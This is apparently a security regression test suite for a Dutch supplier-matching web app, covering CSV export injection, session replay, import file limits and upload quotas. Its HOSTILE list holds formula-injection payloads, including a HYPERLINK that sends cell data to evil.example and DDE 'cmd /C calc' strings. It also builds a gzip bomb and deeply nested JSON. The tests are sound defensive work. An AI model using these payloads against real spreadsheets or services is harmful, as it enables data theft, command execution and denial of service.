"""Issue 16, round two of the attack: exports, page sessions, imports and uploads (items 4, 5,
10 and 14). Each test failed before its fix."""
from __future__ import annotations

import csv
import gc
import gzip
import io
import itertools
import json
import tracemalloc

import flask
import pytest
import sqlalchemy as sa
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from matchmaker.extensions import db
from matchmaker.models import Supplier
from tests.builders import CHAIRS, Browser, shortlist, stored_shortlists, tender_payload

# --------------------------------------------------------------------------- 4: CSV injection

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")", "+31 cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_a_cell_that_would_start_a_formula_is_quoted_and_numbers_stay_numbers():
    from matchmaker.interop.spreadsheet import safe_cell

    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Stoelenkliniek") == "Stoelenkliniek"
    assert safe_cell("Kringloop =wel") == "Kringloop =wel"
    assert safe_cell(-3) == -3 and safe_cell(-0.25) == -0.25
    assert safe_cell(None) == ""


@pytest.fixture
def hostile_market(app, register):
    """Suppliers whose names and municipalities (as an import or staff could store them) start
    formulas; they rank on the tender below."""
    ids = []
    for number, text in enumerate(HOSTILE):
        ids.append(register(**{**CHAIRS, "kvk_number": f"8200000{number}",
                               "name": f"Stoelen {number}"}).id)
    with app.app_context():
        for supplier_id, text in zip(ids, HOSTILE):
            supplier = db.session.get(Supplier, supplier_id)
            supplier.name, supplier.municipality = text, text
        db.session.commit()
    return ids


def _cells(response, delimiter: str = ",") -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""),
                               delimiter=delimiter))


@pytest.mark.parametrize("route", ["api", "page"])
def test_every_csv_export_neutralises_hostile_names_and_municipalities(
        client, make_token, hostile_market, route):
    buyer = make_token("buyer", buyer="Waterbedrijf Amstelland")
    tender = client.post("/api/tenders", json=tender_payload(
        criteria=[{"kind": "circular_strategy", "mode": "must", "params": {"at_least": "refurbish"}}]),
        headers=buyer).get_json()
    result = shortlist(client, buyer, tender["id"])
    # English profiles for a Dutch tender: until the bilingual bridge they may be listed as weak
    # candidates ("no good match"); the export lists those then, and must neutralise them too
    assert len(result["items"] or result["weak_candidates"]) == len(HOSTILE)
    if route == "api":
        response = client.get(f"/api/shortlists/{result['id']}/export.csv", headers=buyer)
        rows, name, municipality = _cells(response), "supplier_name", "municipality"
    else:  # the page's CSV is for Dutch Excel: semicolons, Dutch headers, decimal commas
        browser = Browser(client)
        browser.sign_in(buyer)
        response = browser.get(f"/buyer/shortlists/{result['id']}/export.csv")
        rows, name, municipality = _cells(response, ";"), "Leverancier", "Gemeente"

    assert sorted(row[name] for row in rows) == sorted("'" + t for t in HOSTILE)
    assert sorted(row[municipality] for row in rows) == sorted("'" + t for t in HOSTILE)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        assert float(row.get("score", row.get("Score")).replace(",", ".")) >= 0


# --------------------------------------------------------------------------- 5: sign-out

ACCOUNT_PASSWORD = "circulair-inkopen-2027"


@pytest.fixture
def signed_in(app, client, make_token, runner, request):
    """A buyer signed in to the pages, with a token (``token``) or an account (``account``)."""
    buyer = make_token("buyer", buyer="Grachtenbank")
    browser = Browser(client)
    if request.param == "token":
        browser.sign_in(buyer)
    else:
        result = runner.invoke(args=["create-account", "--email", "inkoop@grachtenbank.example",
                                     "--role", "buyer", "--buyer", "Grachtenbank",
                                     "--password", ACCOUNT_PASSWORD])
        assert result.exit_code == 0, result.output
        response = browser.post("/sign-in", {"email": "inkoop@grachtenbank.example",
                                             "password": ACCOUNT_PASSWORD})
        assert response.status_code == 302
    assert browser.get("/buyer/tenders").status_code == 200
    return browser, buyer


def _replay(client, cookie: str):
    client.set_cookie("session", cookie)
    return client.get("/buyer/tenders")


@pytest.mark.parametrize("signed_in", ["token", "account"], indirect=True)
def test_a_cookie_copied_before_sign_out_is_refused_after_it(signed_in):
    browser, _buyer = signed_in
    copied = browser.client.get_cookie("session").value

    browser.post("/sign-out")
    replayed = _replay(browser.client, copied)

    assert replayed.status_code == 302
    assert "/sign-in" in replayed.headers["Location"]


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_signing_out_of_a_token_session_leaves_the_token_itself_valid(client, signed_in):
    browser, buyer = signed_in
    browser.post("/sign-out")
    assert client.get("/api/tenders", headers=buyer).status_code == 200


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_the_api_neither_reads_nor_writes_the_page_session_cookie(app, signed_in):
    browser, _buyer = signed_in
    cookie = browser.client.get_cookie("session").value

    # The cookie signs the pages in; to the API it is no credential, and it is never opened.
    answered = browser.client.get("/api/tenders")
    assert answered.status_code == 401
    assert "Set-Cookie" not in answered.headers
    with app.test_request_context("/api/tenders", headers={"Cookie": f"session={cookie}"}):
        assert app.session_interface.open_session(app, flask.request) is None
    with app.test_request_context("/buyer/tenders", headers={"Cookie": f"session={cookie}"}):
        assert "page_session" in app.session_interface.open_session(app, flask.request)
    assert browser.get("/buyer/tenders").status_code == 200


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_a_session_ends_after_its_maximum_age(app, signed_in):
    browser, _buyer = signed_in
    app.config["PAGE_SESSION_MAX_HOURS"] = 0
    try:
        response = browser.get("/buyer/tenders")
    finally:
        app.config["PAGE_SESSION_MAX_HOURS"] = 12
    assert response.status_code == 302 and "/sign-in" in response.headers["Location"]


@pytest.mark.parametrize("signed_in", ["token"], indirect=True)
def test_signing_in_again_ends_the_session_the_cookie_had(signed_in):
    browser, buyer = signed_in
    copied = browser.client.get_cookie("session").value
    browser.sign_in(buyer)
    assert browser.get("/buyer/tenders").status_code == 200
    assert _replay(browser.client, copied).status_code == 302


# --------------------------------------------------------------------------- 10: import files

def _gzip_bomb(path, unpacked_mb: int = 50, line: bytes = b"\0" * 1024) -> None:
    """``unpacked_mb`` MB of ``line`` repeated, gzipped while written (a few hundred KB)."""
    block = line * (1024 * 1024 // len(line))
    with gzip.open(path, "wb", compresslevel=9) as out:
        for _ in range(unpacked_mb):
            out.write(block)


IMPORTS = {
    "import-suppliers": [],
    "import-ocds": ["--buyer", "Waterbedrijf Amstelland"],
    "import-cpv": [],
}


def _run_import(app, runner, command: str, path):
    app.config["IMPORT_MAX_BYTES"] = 1_000_000
    try:
        tracemalloc.start()
        result = runner.invoke(args=[command, str(path), *IMPORTS[command]])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        app.config["IMPORT_MAX_BYTES"] = 512 * 1024 * 1024
    return result, peak


def _nothing_imported(app) -> None:
    from matchmaker.models import Tender

    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Supplier)) == 0
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Tender)) == 0


@pytest.mark.parametrize("command", sorted(IMPORTS))
@pytest.mark.parametrize("line", [b"\0" * 1024, b" " * 1023 + b"\n"], ids=["one-line", "blank-lines"])
def test_a_gzip_bomb_is_refused_before_it_unpacks_with_bounded_memory(
        app, runner, make_token, tmp_path, command, line):
    make_token("buyer", buyer="Waterbedrijf Amstelland")
    bomb = tmp_path / "bomb.jsonl.gz"
    _gzip_bomb(bomb, line=line)
    assert bomb.stat().st_size < 1_000_000

    result, peak = _run_import(app, runner, command, bomb)

    assert result.exit_code != 0
    assert "IMPORT_MAX_BYTES" in result.output and "line " in result.output, result.output
    assert "Traceback" not in result.output
    # A 1 MB limit: the reader holds about that much at most (generous bound for the rest).
    assert peak < 16_000_000, peak
    _nothing_imported(app)


DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("command", ["import-suppliers", "import-ocds"])
@pytest.mark.parametrize("content, line", [
    ("\n\n" + DEEP + "\n", 3),                       # JSON lines, a deep line
    ('{"releases": [\n' + "[\n" * 100_000, 64),     # one document over many lines
], ids=["json-lines", "document"])
def test_json_nested_too_deep_is_refused_with_its_line(app, runner, make_token, tmp_path,
                                                       command, content, line):
    make_token("buyer", buyer="Waterbedrijf Amstelland")
    path = tmp_path / "deep.json"
    path.write_text(content)

    result = runner.invoke(args=[command, str(path), *IMPORTS[command]])

    assert result.exit_code != 0
    assert f"line {line}: JSON nested deeper than 64 levels" in result.output, result.output
    assert "Traceback" not in result.output and "RecursionError" not in result.output
    _nothing_imported(app)


def test_a_json_lines_file_is_decoded_line_by_line_not_whole():
    """The reader hands out each line's document as it reads it: a broken line far down does
    not stop the first ones being decoded first (the whole file is never one string)."""
    from matchmaker.interop.reading import ImportFileError, read_json_documents

    documents = read_json_documents(io.BytesIO(b'{"a": 1}\n{"b": 2}\n{"c": \n'))
    assert next(documents) == (1, {"a": 1})
    assert next(documents) == (2, {"b": 2})
    with pytest.raises(ImportFileError) as caught:
        next(documents)
    assert caught.value.line == 3


# --------------------------------------------------------------------------- 14: uploads, snapshots

JUDGMENT_ROWS = {
    "suppliers": [{"id": "S1", "name": "Chair Works", "description": "office chairs"},
                  {"id": "S2", "name": "Seat Co", "description": "refurbished office chairs"}],
    "tenders": [{"id": "T1", "title": "Refurbished office chairs", "description": ""}],
    "qrels": [{"tender_id": "T1", "supplier_id": "S2", "relevance": 1}],
}


def _judgment_files(rows=JUDGMENT_ROWS, extra: dict | None = None) -> dict:
    files = {}
    for name, lines in rows.items():
        text = "\n".join(json.dumps(line) for line in lines) + "\n" + (extra or {}).get(name, "")
        files[name] = (io.BytesIO(text.encode()), f"{name}.jsonl")
    return files


@pytest.fixture
def judgments_url(client, make_token):
    staff = make_token("staff")
    profile = client.post("/api/staff/weight-profiles", headers=staff, json={
        "name": "upload", "weights": {}, "reason": "uploads"}).get_json()
    return f"/api/staff/weight-profiles/{profile['id']}/evaluation/judgments", staff


def test_a_judgment_set_within_the_limits_is_evaluated(client, judgments_url):
    url, staff = judgments_url
    response = client.post(url, data=_judgment_files(), headers=staff,
                           content_type="multipart/form-data")
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["metrics"]["judged_tenders"] == 1


def test_the_judgment_upload_limit_is_a_few_times_the_benchmark_not_fifty_megabytes(
        client, judgments_url):
    """A 45 MB upload held a worker 86 s; the default limit is now 8 MB."""
    url, staff = judgments_url
    padding = (" " * 1023 + "\n") * 9 * 1024  # 9 MB of blank lines: cheap to parse, too big
    # Encoded in memory: the test client would spool a body this large to a temporary file that
    # nothing closes when the app refuses it unread (a ResourceWarning in a later test).
    boundary, body = encode_multipart({
        name: FileStorage(stream, filename)
        for name, (stream, filename) in _judgment_files(extra={"suppliers": padding}).items()})
    response = client.post(url, data=body, headers=staff,
                           content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 413
    assert response.mimetype == "application/problem+json"


# Werkzeug's multipart parser drops the spooled file it was filling when the limit stops it;
# it is closed when collected, with a ResourceWarning (Werkzeug's, not ours).
@pytest.mark.filterwarnings("ignore::ResourceWarning",
                            "ignore::pytest.PytestUnraisableExceptionWarning")
def test_the_judgment_upload_limit_is_counted_while_streaming_without_a_length(
        app, client, judgments_url, monkeypatch):
    url, staff = judgments_url
    monkeypatch.setitem(app.config, "JUDGMENTS_MAX_CONTENT_LENGTH", 4_000)
    boundary = "grens"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"suppliers\"; "
            f"filename=\"suppliers.jsonl\"\r\n\r\n" + "\n" * 20_000 + f"\r\n--{boundary}--\r\n")
    # As gunicorn hands over a chunked body: no length, the stream ends where the body does.
    response = client.post(url, input_stream=io.BytesIO(body.encode()), headers={
        **staff, "Transfer-Encoding": "chunked",
        "Content-Type": f"multipart/form-data; boundary={boundary}"},
        environ_overrides={"wsgi.input_terminated": True})
    gc.collect()
    assert response.status_code == 413


def test_a_judgment_file_past_its_row_limit_is_refused_with_the_line(
        app, client, judgments_url, monkeypatch):
    url, staff = judgments_url
    monkeypatch.setitem(app.config, "JUDGMENTS_MAX_ROWS", {"tenders": 2})
    rows = dict(JUDGMENT_ROWS, tenders=[{"id": f"T{n}", "title": "chairs"} for n in range(1, 6)])

    response = client.post(url, data=_judgment_files(rows), headers=staff,
                           content_type="multipart/form-data")

    assert response.status_code == 422
    [problem] = [e for e in response.get_json()["errors"] if e["field"].startswith("tenders")]
    assert problem["field"] == "tenders.jsonl:3"
    assert "JUDGMENTS_MAX_ROWS" in problem["message"]


def test_a_deeply_nested_judgment_line_is_a_problem_not_a_500(client, judgments_url):
    url, staff = judgments_url
    response = client.post(url, data=_judgment_files(extra={"qrels": DEEP + "\n"}),
                           headers=staff, content_type="multipart/form-data")
    assert response.status_code == 422
    assert response.get_json()["errors"][0]["field"] == "qrels.jsonl:2"


def test_an_evaluated_upload_leaves_nothing_of_itself_referenced(app, client, judgments_url):
    """After the answer, what the upload was parsed into is garbage: memory the process still
    holds afterwards is a small fraction of what the evaluation used."""
    url, staff = judgments_url
    rows = {
        "suppliers": [{"id": f"S{n}", "name": f"Leverancier {n}",
                       "description": f"kantoorstoelen {n} | bureaus hout {n} | reparatie {n % 17}"}
                      for n in range(3_000)],
        "tenders": [{"id": f"T{n}", "title": f"Stoelen {n}", "description": "bureaus"}
                    for n in range(20)],
        "qrels": [{"tender_id": f"T{n}", "supplier_id": f"S{n}"} for n in range(20)],
    }
    client.post(url, data=_judgment_files(rows), headers=staff, content_type="multipart/form-data")
    gc.collect()
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        response = client.post(url, data=_judgment_files(rows), headers=staff,
                               content_type="multipart/form-data")
        gc.collect()
        after, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert response.status_code == 200, response.get_json()
    assert peak - before > 2_000_000, "the evaluation should have used some memory"
    assert after - before < (peak - before) / 20, (after - before, peak - before)


def test_an_uploaded_judgment_file_is_read_line_by_line_not_whole(app):
    from matchmaker.services import evaluation

    padding = io.BytesIO(b"\n".join([b" " * 1000] * 5_000))  # 5 MB, all blank lines
    streams = {name: io.BytesIO(text.encode()) for name, text in (
        ("suppliers", ""), ("tenders", ""), ("qrels", ""))}
    streams["suppliers"] = padding
    with app.app_context():
        tracemalloc.start()
        try:
            with pytest.raises(evaluation.InvalidJudgments):
                evaluation.read_judgments(streams)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert peak < 2_000_000, peak


@pytest.fixture
def shortlisted(app, client, make_token, register, monkeypatch):
    """A buyer with two tenders over one supplier, and small bounds on stored shortlists."""
    monkeypatch.setitem(app.config, "SHORTLISTS_KEPT_PER_TENDER", 3)
    monkeypatch.setitem(app.config, "SHORTLISTS_MAX_PER_ORGANISATION", 5)
    supplier = register(**CHAIRS)
    buyer = make_token("buyer", buyer="Waterbedrijf Amstelland")
    tenders = [client.post("/api/tenders", json=tender_payload(), headers=buyer).get_json()["id"]
               for _ in range(2)]
    return buyer, tenders, supplier.id


_LENGTHS = itertools.count()


def _made(client, buyer, tender_id) -> dict:
    """A new shortlist of the tender: a length its latest one does not have (asked again
    unchanged, the latest would be served instead of a new one), and never the pages' 10."""
    return shortlist(client, buyer, tender_id, k=11 + next(_LENGTHS) % 39)


def _stored(app) -> list[tuple[int, int]]:
    return stored_shortlists(app, "tender_id", "id")


def _feedback(client, buyer, shortlist_id, supplier_id):
    response = client.post(f"/api/shortlists/{shortlist_id}/feedback", headers=buyer,
                           json={"supplier_id": supplier_id, "verdict": "relevant"})
    assert response.status_code == 201, response.get_json()


def test_a_tender_keeps_its_newest_shortlists_and_every_one_with_feedback(app, client, shortlisted):
    buyer, (tender, _other), supplier_id = shortlisted
    first = _made(client, buyer, tender)["id"]
    _feedback(client, buyer, first, supplier_id)
    made = [first] + [_made(client, buyer, tender)["id"] for _ in range(5)]

    kept = [shortlist_id for _, shortlist_id in _stored(app)]
    assert kept == [first, *made[-3:]]
    assert client.get(f"/api/shortlists/{made[1]}", headers=buyer).status_code == 404
    assert client.get(f"/api/shortlists/{first}", headers=buyer).status_code == 200


def test_an_organisation_stores_a_bounded_number_dropping_the_oldest_without_feedback(
        app, client, shortlisted):
    buyer, (one, two), _supplier_id = shortlisted
    made = [_made(client, buyer, tender)["id"] for tender in (one, one, one, two, two, two)]

    assert [shortlist_id for _, shortlist_id in _stored(app)] == made[1:]


def test_the_quota_drops_superseded_shortlists_before_a_tenders_latest(
        app, client, shortlisted, monkeypatch):
    # A tender asked again unchanged is served its latest stored shortlist however old it is,
    # so the organisation's oldest row can be the one its buyer is looking at.
    monkeypatch.setitem(app.config, "SHORTLISTS_KEPT_PER_TENDER", 5)
    buyer, (one, two), _supplier_id = shortlisted
    current = _made(client, buyer, one)
    superseded = [_made(client, buyer, two)["id"] for _ in range(4)]
    again = client.get(f"/api/tenders/{one}/shortlist?k={current['k']}", headers=buyer)
    assert again.get_json()["id"] == current["id"]

    newest = _made(client, buyer, two)["id"]

    assert [shortlist_id for _, shortlist_id in _stored(app)] == [
        current["id"], *superseded[1:], newest]
    assert client.get(f"/api/shortlists/{current['id']}", headers=buyer).status_code == 200
    again = client.get(f"/api/tenders/{one}/shortlist?k={current['k']}", headers=buyer)
    assert again.get_json()["id"] == current["id"]


def test_when_feedback_fills_the_quota_a_new_shortlist_is_refused_and_nothing_is_lost(
        app, client, shortlisted):
    buyer, (one, two), supplier_id = shortlisted
    made = [_made(client, buyer, tender)["id"] for tender in (one, one, one, two, two)]
    for shortlist_id in made:
        _feedback(client, buyer, shortlist_id, supplier_id)

    response = client.get(f"/api/tenders/{two}/shortlist?k=5", headers=buyer)

    assert response.status_code == 507
    assert "feedback" in response.get_json()["detail"]
    assert [shortlist_id for _, shortlist_id in _stored(app)] == made


def test_many_shortlists_never_store_more_than_the_bounds_and_each_served_one_reads_back(
        app, client, shortlisted):
    buyer, (one, two), supplier_id = shortlisted
    with_feedback = _made(client, buyer, one)["id"]
    _feedback(client, buyer, with_feedback, supplier_id)
    served = []
    for tender in (one, two, two, one, one, one, two, one, two, two, two, one, one):
        served.append(_made(client, buyer, tender))
        stored = _stored(app)
        without_feedback = [pair for pair in stored if pair[1] != with_feedback]
        assert len(stored) <= 5  # the organisation's quota
        for each in (one, two):  # the tender's newest 3, and the one with feedback
            assert len([t for t, _ in without_feedback if t == each]) <= 3
        assert stored[-1] == (tender, served[-1]["id"])  # the newest is always kept

    assert with_feedback in [shortlist_id for _, shortlist_id in _stored(app)]
    latest = served[-1]
    read_back = client.get(f"/api/shortlists/{latest['id']}", headers=buyer).get_json()
    assert read_back == latest


def test_the_buyer_page_shows_the_full_quota_as_a_page(app, client, shortlisted):
    buyer, (one, two), supplier_id = shortlisted
    for tender in (one, one, one, two, two):
        _feedback(client, buyer, _made(client, buyer, tender)["id"], supplier_id)
    browser = Browser(client)
    browser.sign_in(buyer)
    browser.get(f"/buyer/tenders/{two}")

    response = browser.post(f"/buyer/tenders/{two}/shortlist")

    assert response.status_code == 507
    assert response.mimetype == "text/html"
    assert "feedback" in response.get_data(as_text=True)
